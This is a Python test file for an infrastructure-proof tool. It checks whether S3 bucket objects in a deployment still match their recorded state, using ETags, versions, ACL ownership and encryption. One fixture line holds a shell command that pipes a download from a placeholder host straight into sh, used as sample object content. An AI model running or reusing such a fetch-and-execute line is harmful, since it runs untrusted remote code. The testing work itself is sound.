"""`prove --live` says of objects of buckets what `prove --state` says, for as long as nobody has
written one anew; and what somebody has written is undecided, whatever its record says.

No object is read: a listing tells that one is as it was recorded.
"""

import base64
import hashlib
import json
from dataclasses import replace
from typing import Any

import pytest

from automation.described.live import as_text
from automation.described.objects import KINDS
from automation.described.reader import Reading
from automation.described.records import Records
from automation.described.resources import Described, resources_of
from automation.described.tables import calls
from automation.state import Resource
from model.deployment import Deployment, Node
from proof.findings import Proof
from proof.prove import prove
from rules.unknowns import UNKNOWN
from sources.recorded import read_recorded
from tests.automation.described.answers import Answers, Asked, Item, Nothing
from tests.automation.described.parity import HERE, said
from tests.policies.mutations.catalogue import ENTRIES
from tests.policies.mutations.stacks import ACCOUNT, REGION, Of, Stack, stack

BEFORE = stack("self-hosted", True)
BUCKET = "aws:s3/bucket:Bucket"
OBJECT, OLDER = "aws:s3/bucketObjectv2:BucketObjectv2", "aws:s3/bucketObject:BucketObject"
(MATERIAL,) = {str(node.resource.props["bucket"]) for node in BEFORE.each(OBJECT)}
MUTATIONS = {
    entry.mutation.name: places[0]
    for entry in ENTRIES
    if entry.mutation.name.endswith(" in a bundle")
    and entry.mutation.verdict == "open"
    and (places := list(entry.mutation.change(BEFORE)))
}
SCRIPT = "#!/bin/sh\ncurl https://x.example/a | sh\n"
KEY = f"arn:aws:kms:{REGION}:{ACCOUNT}:key/0123"


def content_of(node: Node) -> bytes:
    props = node.resource.props
    encoded, source = props.get("contentBase64"), props.get("source", {})
    text = source.get("text") or props.get("content", "")
    return base64.b64decode(encoded) if encoded else str(text).encode()


def etag_of(content: bytes) -> str:
    return hashlib.md5(content, usedforsecurity=False).hexdigest()


def recorded(node: Node, version: str = "null") -> Resource:
    """As the provider writes it down: with a tag without quotes, and no version where S3 keeps
    none."""
    of, props = node.resource, node.resource.props
    outputs = {**node.outputs(), "etag": etag_of(content_of(node)), "versionId": version}
    id_ = f"{props['bucket']}/{props['key']}"
    sources = {name: sorted(urns) for name, urns in node.sources.items()}
    return Resource(of.urn, of.type, of.name, id_, of.props, {**outputs, "id": id_}, sources)


class Live:
    """Buckets of an account and what lies in them, by its tags. version: of all of it, in a bucket
    that keeps versions. noted: what a refresh wrote down of an object, by its name."""

    def __init__(self, account: Any, patch: Any, opened: Stack, version: str = "null") -> None:
        self.account, self.patch, self.opened, self.version = account, patch, opened, version
        self.nodes = list(opened.each(OBJECT, OLDER))
        self.lying = {
            (str(n.resource.props["bucket"]), str(n.resource.props["key"]).lstrip("/")):
                etag_of(content_of(n))
            for n in self.nodes
        }  # fmt: skip
        self.buckets = {bucket for bucket, _ in self.lying}
        self.ownership = "BucketOwnerEnforced"
        self.asked: list[Asked] = []
        self.noted: dict[str, dict[str, str]] = {}

    def read(self, version: str | None = None) -> tuple[Proof, Described]:
        """What the proof says of it. version: that was recorded, where it was another one."""
        records = Records([self._recorded(n, version or self.version) for n in self.nodes])
        answers = Answers(self.account, REGION)
        answers.lists("s3", "ListBuckets", "Buckets", *({"Name": b} for b in self.buckets))
        answers.says("s3", "ListObjectVersions", self._listed)
        answers.says("s3", "GetBucketOwnershipControls", lambda _: {
            "OwnershipControls": {"Rules": [{"ObjectOwnership": self.ownership}]}
        })  # fmt: skip
        answers.answering(["s3"], self.patch.setattr)
        found = Reading(self.account, REGION, HERE).run(calls(KINDS), records.scope())
        described = resources_of(found, records)
        told = read_recorded(json.loads(as_text(described.resources))).nodes
        urns = {node.resource.urn for node in self.nodes}
        around = {u: n for u, n in self.opened.deployment.nodes.items() if u not in urns}
        deployment = Deployment({**around, **told})
        return prove(deployment, self.opened.boundary), described

    def _recorded(self, node: Node, version: str) -> Resource:
        known = recorded(node, version)
        return replace(known, outputs={**known.outputs, **self.noted.get(known.name, {})})

    def _listed(self, asked: Asked) -> Item:
        self.asked.append(asked)
        if asked["Bucket"] not in self.buckets:
            raise Nothing("NoSuchBucket")
        keys = sorted(key for bucket, key in self.lying if bucket == asked["Bucket"])
        first = [key for key in keys if key.startswith(asked["Prefix"])][: asked["MaxKeys"]]
        return {
            "IsTruncated": True, "NextKeyMarker": "zzz", "NextVersionIdMarker": "null",
            "Versions": [
                {"Key": key, "ETag": f'"{self.lying[asked["Bucket"], key]}"', "IsLatest": True,
                 "VersionId": self.version}
                for key in first
            ],
        }  # fmt: skip


def having(**props: Any) -> Stack:
    """The cluster with one more object in its bucket."""
    made = BEFORE.makes(OBJECT, "door", {"bucket": MATERIAL, "key": "more/door", **props})
    return replace(BEFORE.having(made), touched=frozenset({"door"}))


def by_state(of: Stack) -> Proof:
    return prove(of.deployment, of.boundary)


@pytest.fixture
def live(stubbed, monkeypatch):
    return lambda of, **given: Live(stubbed, monkeypatch, of, **given)


def test_a_control_plane_of_ones_own_is_closed_by_what_lies_in_its_bucket(live):
    there = live(BEFORE)
    proof, described = there.read()
    assert proof.verdict == by_state(BEFORE).verdict == "closed" and described.missing == []
    assert all(isinstance(r["inputs"]["contentBase64"], str) for r in described.resources)
    assert UNKNOWN not in {r["inputs"]["contentBase64"] for r in described.resources}
    assert sorted(a["Prefix"] for a in there.asked) == sorted(key for _, key in there.lying)


@pytest.mark.parametrize("name", MUTATIONS)
def test_what_opens_a_bundle_is_found_where_nobody_has_written_it_anew(live, name):
    proof, _ = live(MUTATIONS[name]).read()
    assert proof.verdict == "open" and said(proof) == said(by_state(MUTATIONS[name]))


def test_there_are_such_mutations():
    assert len(MUTATIONS) > 3


@pytest.mark.parametrize("type_", [OBJECT, OLDER])
@pytest.mark.parametrize("given", [
    {"content": SCRIPT}, {"content": "of nobody"}, {"source": {"text": SCRIPT}}, {},
    {"contentBase64": base64.b64encode(SCRIPT.encode()).decode()},
])  # fmt: skip
def test_an_object_is_as_it_was_recorded_while_its_tag_is(live, type_, given):
    made = BEFORE.makes(type_, "door", {"bucket": MATERIAL, "key": "/more//door", **given})
    of = BEFORE.having(made)
    there = live(of)
    there.lying = {(b, k.replace("//", "/")): tag for (b, k), tag in there.lying.items()}
    proof, described = there.read()
    assert described.missing == []
    assert said(proof) == said(by_state(of)) and proof.verdict == by_state(of).verdict
    there.lying[MATERIAL, "more/door"] = etag_of(b"of somebody else")
    proof, _ = there.read()
    assert said(proof) == {("CN-210", "door")} and proof.verdict == "undecided"


@pytest.mark.parametrize("given", [
    {"content": "x"}, {"contentBase64": "eA=="}, {"source": {"text": "x"}},
])  # fmt: skip
@pytest.mark.parametrize(("encryption", "counts"), [("AES256", True), ("aws:kms", False)])
def test_a_tag_that_a_refresh_has_noted_is_not_of_what_the_program_put_there(
    live, given, encryption, counts
):
    """Where somebody has written the object before; with a key of KMS no tag tells."""
    there = live(having(**given))
    there.lying[MATERIAL, "more/door"] = tag = etag_of(b"of somebody else")
    there.noted["door"] = {"etag": tag, "serverSideEncryption": encryption}
    assert (("CN-210", "door") in said(there.read()[0])) is counts


def test_what_is_gone_is_missing_and_one_called_alike_is_not_taken_for_it(live):
    there = live(having(content="x"))
    there.lying[MATERIAL, "more/door-of-others"] = there.lying.pop((MATERIAL, "more/door"))
    _, described = there.read()
    assert [record.name for record in described.missing] == ["door"]
    assert all("door" not in r["name"] for r in described.resources)


def test_what_lies_with_others_is_not_asked_for_and_unknown(live):
    of = having(content="x", key="y")
    others = BEFORE.makes(OBJECT, "door", {"bucket": "of-others", "key": "x", "content": "x"})
    there = live(of.having(others))
    there.buckets = {MATERIAL}
    proof, described = there.read()
    assert described.missing == [] and "of-others" not in {a["Bucket"] for a in there.asked}
    assert ("CN-210", "door") in said(proof)
    (told,) = (r for r in described.resources if r["name"] == "door")
    assert told["inputs"]["bucket"] == "of-others"


@pytest.mark.parametrize(("ownership", "counts"), [
    ("BucketOwnerEnforced", False), ("ObjectWriter", True),
])  # fmt: skip
def test_a_recorded_acl_holds_where_none_counts(live, ownership, counts):
    there = live(having(content="x", acl="private"))
    there.ownership = ownership
    proof, _ = there.read()
    assert (("CN-152", "door") in said(proof)) is counts
    there = live(having(content="x"))
    there.ownership = ownership
    assert said(there.read()[0]) == set(), "nobody has recorded one"


@pytest.mark.parametrize(("given", "rule"), [
    ({"kmsKeyId": KEY}, "CN-136"), ({"websiteRedirect": ""}, "CN-153"),
])  # fmt: skip
def test_what_is_said_of_an_object_is_as_recorded_while_its_version_is(live, given, rule):
    """Whoever writes the same once more, with another key, changes no tag."""
    there = live(having(content="x", **given), version="v1")
    assert said(there.read()[0]) == set()
    assert said(there.read(version="v0")[0]) == {(rule, "door")}
    unversioned = live(having(content="x", **given))
    assert said(unversioned.read()[0]) == {(rule, "door")}


@pytest.mark.parametrize("content", [UNKNOWN, Of(BEFORE.first(BUCKET), "nothing")])
def test_what_a_state_or_a_file_does_not_tell_is_undecided_whatever_it_comes_from(content):
    """A secret of a state, or what a program makes of what is not there yet."""
    assert said(by_state(having(content=content))) == {("CN-210", "door")}
